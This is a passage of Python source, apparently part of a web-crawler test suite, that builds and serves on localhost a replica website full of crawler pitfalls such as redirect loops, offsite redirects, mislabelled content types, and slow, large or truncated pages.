            trap_prefixes=(f"{TRAP_LISTING}?", CALENDAR),
            redirect_loop=loop,
            offsite_redirect={offsite: OFFSITE_URL},
            offsite_hosts=(OFFSITE_HOST,),
            unfollowable=UNFOLLOWABLE_HREFS,
            mislabelled={pdf_path: "application/pdf", octet_path: "text/html"},
            long_url=long_url,
            large_page=large,
            slow_page=slow,
            truncated_page=truncated,
            resources=self.resources,
            shell=self.shell,
        )


def build_hostile_replica(n_articles: int = 60, seed: int = 2021, slow_seconds: float = 5.0,
                          transient_failures: int = TRANSIENT_FAILURES) -> HostileReplica:  # fmt: skip
    """The replica of `n_articles` articles with every hostile case; the same arguments give an equal one."""
    return _HostileBuilder(build_replica(n_articles, seed), seed, slow_seconds, transient_failures).build()


# --------------------------------------------------------------------------------------
# The server


class _HostileHandler(_Handler):
    def _serve(self, with_body: bool) -> None:
        owner: HostileServer = self.server.owner  # type: ignore[attr-defined]
        attempt = owner._attempt(self.command, self.path, dict(self.headers.items()))
        answer = owner.hostile.answer(self.path, attempt, base=owner.url)
        if answer.delay and owner._stopping.wait(answer.delay):
            self.close_connection = True  # the server is stopping: drop the slow answer
            return
        self._send(answer.resource, with_body, answer.declared_length)


class HostileServer(ReplicaServer):
    """Serves a `HostileReplica` over HTTP; like `ReplicaServer`, plus `attempts` per path.

    `attempts` counts requests per path and query (fragment dropped); the transient
    errors answer by it, so they succeed on a retry to the same server.
    """

    def __init__(self, hostile: HostileReplica, host: str = "127.0.0.1", port: int = 0) -> None:
        super().__init__(hostile.replica, host, port)
        self.hostile = hostile
        self.attempts: Counter[str] = Counter()
        self._stopping = threading.Event()

    def start(self) -> HostileServer:
        """Bind the port and start serving in the background."""
        self._stopping.clear()
        super().start()
        # No client knows a free port before start() returns, so no request met the plain handler.
        self._httpd.RequestHandlerClass = _HostileHandler  # type: ignore[union-attr]
        return self

    def stop(self) -> None:
        """Stop serving: slow answers still waiting are dropped."""
        self._stopping.set()
        super().stop()

    def _attempt(self, method: str, path: str, headers: dict) -> int:
        self._record(method, path, headers)
        key = path.split("#", 1)[0] or "/"
        with self._lock:
            self.attempts[key] += 1
            return self.attempts[key]

    def __enter__(self) -> HostileServer:
        return self.start()


def main(argv: list[str] | None = None) -> None:
    """`python -m crawler.replica.hostile [--port N] [--articles N] [--slow-seconds S]`: serve until Ctrl-C."""
    parser = argparse.ArgumentParser(prog="python -m crawler.replica.hostile", description=main.__doc__)
    parser.add_argument("--host", default="127.0.0.1")
    parser.add_argument("--port", type=int, default=0, help="0 picks a free port (default)")
    parser.add_argument("--articles", type=int, default=60, help="articles of the ordinary site (default 60)")
    parser.add_argument("--seed", type=int, default=2021)
    parser.add_argument("--slow-seconds", type=float, default=5.0, help="delay of the slow page (default 5)")
    args = parser.parse_args(argv)
    hostile = build_hostile_replica(args.articles, args.seed, args.slow_seconds)
    server = HostileServer(hostile, args.host, args.port).start()
    print(f"Hostile replica of cchc.laichau.gov.vn at {server.url}/", flush=True)
    for case in hostile.cases.values():
        shown = case.path if len(case.path) < 100 else case.path[:60] + f"… ({len(case.path)} characters)"
        print(f"  {case.name:<24} {shown}", flush=True)
    server.serve_until_interrupted()


if __name__ == "__main__":
    main()
